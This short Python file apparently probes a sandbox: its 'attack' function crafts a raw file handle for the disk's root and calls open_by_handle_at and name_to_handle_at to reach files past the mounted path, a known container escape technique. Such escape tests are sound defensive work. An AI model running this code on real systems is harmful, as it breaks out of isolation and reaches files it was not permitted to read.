"""Open a file by its number on the disk, past the path."""

import kit


def attack():
    handle = bytes([8, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0])
    return kit.any_of(
        lambda: kit.syscall("open_by_handle_at", -100, handle, 0),
        lambda: kit.syscall("name_to_handle_at", -100, b"/usr", handle, handle, 0),
    )


kit.play(attack)
